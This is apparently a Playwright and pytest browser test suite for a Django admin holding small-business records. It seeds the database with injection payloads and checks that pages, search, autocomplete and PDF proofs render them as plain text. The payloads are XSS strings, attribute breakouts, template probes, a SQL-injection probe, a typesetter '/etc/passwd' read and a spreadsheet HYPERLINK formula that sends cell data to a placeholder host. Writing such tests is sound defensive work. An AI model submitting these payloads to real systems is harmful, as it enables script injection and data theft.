"""Hostile text from owners, tried in the officials' room: wherever it is shown it is text, and nothing of it runs.

An error in the console or a breach of the policy of content fails the test by itself (conftest).
"""

from __future__ import annotations

from typing import Any
from urllib.parse import urlencode

import pytest
from django.db import connection, transaction
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page

from notifikasi.models import Pemberitahuan
from tests.browser.conftest import Ruang
from tests.browser.dunia import Dunia
from tests.browser.jelajah import alamat, rute
from umkm.enums import S
from umkm.models import Usaha

pytestmark = pytest.mark.django_db(transaction=True)

# Short enough for a name; each part breaks out of another place: text, attribute, script, template, direction.
JAHAT = "\"'><img src=x onerror=jahat=1><script>jahat=1</script>{{7*7}}{%x%}\u202etxt"
RUMUS = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
ATRIBUT = "x' autofocus onfocus=jahat=1 style='position:fixed' javascript:jahat=1 <svg/onload=jahat=1>"
PANJANG = (JAHAT + "\n" + RUMUS + "\n") * 300  # some 40,000 letters

# What an owner, a helper or a stranger can have written, by table.
TERTULIS = {
    "umkm_usaha": {"nama": JAHAT, "uraian": ATRIBUT, "alamat": JAHAT, "produk_utama": RUMUS, "acara": JAHAT[:60]},
    "umkm_pelakuusaha": {"nama": JAHAT, "alamat": ATRIBUT, "domisili_luar": JAHAT},
    "umkm_aksespembantu": {"nama": JAHAT},
    "umkm_legalitas": {},
    "akun_pengguna": {"nama": JAHAT},
    "akun_perangkatdikenal": {"nama": JAHAT[:80]},
    "inti_berkas": {"nama_asli": JAHAT},
}
CARI = (JAHAT, RUMUS, "' OR 1=1 --", "\\", "%", "<", "\u202e")


@pytest.fixture
def dunia(pemilik: Any, petugas: Any, kepala: Any, settings: Any) -> Dunia:
    settings.DEMO = True
    satu = Dunia(akun=pemilik, petugas=petugas, kepala=kepala)
    racuni()
    return satu


def racuni() -> None:
    """Write the hostile text wherever an owner's words end up, beneath the forms that would refuse some of it."""
    with connection.cursor() as kursor:
        for tabel, isi in TERTULIS.items():
            if isi:
                kolom = ", ".join(f"{nama} = %s" for nama in isi)
                kursor.execute(f"UPDATE {tabel} SET {kolom}", list(isi.values()))  # noqa: S608
        for tabel in ("umkm_riwayatusaha", "umkm_riwayatusulan"):
            kursor.execute(f"ALTER TABLE {tabel} DISABLE TRIGGER USER")
            kursor.execute(f"UPDATE {tabel} SET pelaku = %s, catatan = %s", [JAHAT, PANJANG])  # noqa: S608
            kursor.execute(f"ALTER TABLE {tabel} ENABLE TRIGGER USER")
        kursor.execute("UPDATE umkm_isianusulan SET baru = to_jsonb(%s::text) WHERE nama = 'usaha.nama'", [JAHAT])
        kursor.execute("UPDATE umkm_pemeriksaanbagian SET catatan = %s", [ATRIBUT])
        kursor.execute("UPDATE umkm_permintaanperbaikan SET kalimat = %s", [JAHAT])
    Pemberitahuan.objects.update(judul=JAHAT, isi=PANJANG)


def aman(page: Page) -> None:
    """Nothing of the text became part of the page."""
    hasil = page.evaluate(
        "() => [window.jahat, document.querySelectorAll('img[src=x], svg[onload], [onerror], [onfocus]').length,"
        " [...document.scripts].filter(s => !s.src && !/json/.test(s.type)).length]"
    )
    assert hasil == [None, 0, 0], page.url
    assert page.locator("text=49txt").count() == 0, page.url


def test_no_page_of_the_officials_room_runs_what_an_owner_wrote(
    dunia: Dunia, masuk: Any, petugas: Any, kepala: Any, admin: Any, ruang: Ruang
) -> None:
    klien = {"kepala": masuk(kepala), "petugas": masuk(petugas), "admin": masuk(admin)}
    halaman = {nama: ruang(satu) for nama, satu in klien.items()}
    dilihat = set()
    for satu in (r for r in rute() if r.nama.startswith(("admin:", "operasi:status", "laporan:", "inti:"))):
        for di in alamat(satu, dunia):
            # Each page once, as the first of them who may open it.
            for nama, peramban in klien.items():
                jawaban = peramban.get(di)
                jawaban.close()
                if jawaban.status_code == 200 and di.startswith("/admin/") and "html" in jawaban["Content-Type"]:
                    halaman[nama].goto(di)
                    aman(halaman[nama])
                    dilihat.add(satu.nama)
                    break
    assert len(dilihat) > 40


def test_the_case_shows_the_hostile_name_as_it_was_written(dunia: Dunia, petugas: Any, ruang: Ruang) -> None:
    page = ruang(petugas)
    page.goto(reverse("admin:umkm_usaha_change", args=[dunia.usaha[S.DIPERIKSA].pk]))
    assert page.get_by_text("onerror=jahat=1").count() > 0
    page.emulate_media(media="print")
    aman(page)
    page.goto(reverse("admin:umkm_usaha_changelist"))
    page.emulate_media(media="screen")
    assert page.get_by_text("onerror=jahat=1").count() > 0


def test_whatever_is_searched_and_filtered_for_stays_text(dunia: Dunia, kepala: Any, ruang: Ruang) -> None:
    page = ruang(kepala)
    for daftar in ("umkm_usaha", "umkm_pelakuusaha", "akun_pengguna", "notifikasi_pemberitahuan"):
        for teks in CARI:
            page.goto(f"{reverse(f'admin:{daftar}_changelist')}?{urlencode({'q': teks})}")
            aman(page)
    for kueri in ({"status": JAHAT}, {"antrean": JAHAT}, {"o": JAHAT}, {"p": JAHAT}, {"e": JAHAT}):
        page.goto(f"{reverse('admin:umkm_usaha_changelist')}?{urlencode(kueri)}")
        aman(page)


def test_autocomplete_answers_text_that_is_no_page(dunia: Dunia, masuk: Any, kepala: Any) -> None:
    klien: Client = masuk(kepala)
    isian = {"app_label": "umkm", "model_name": "usaha", "field_name": "digabung_ke", "term": "img"}
    jawaban = klien.get(reverse("admin:autocomplete"), isian)
    assert (jawaban.status_code, jawaban["X-Content-Type-Options"]) in ((200, "nosniff"), (403, "nosniff"))
    assert "html" not in jawaban["Content-Type"] or jawaban.status_code == 403


def test_papers_take_the_text_as_text(dunia: Dunia, petugas: Any) -> None:
    """A proof with all this in its name is printed, and no template mark of the typesetter is followed."""
    from umkm.actions import bukti

    satu = dunia.usaha[S.TERVERIFIKASI]
    Usaha.objects.filter(pk=satu.pk).update(nama='#read("/etc/passwd") $x$ *tebal* ' + JAHAT[:60])
    with transaction.atomic():
        dokumen = bukti.terbitkan(Usaha.objects.get(pk=satu.pk), oleh=petugas)
    with dokumen.file.open("rb") as berkas:
        assert berkas.read(5) == b"%PDF-"
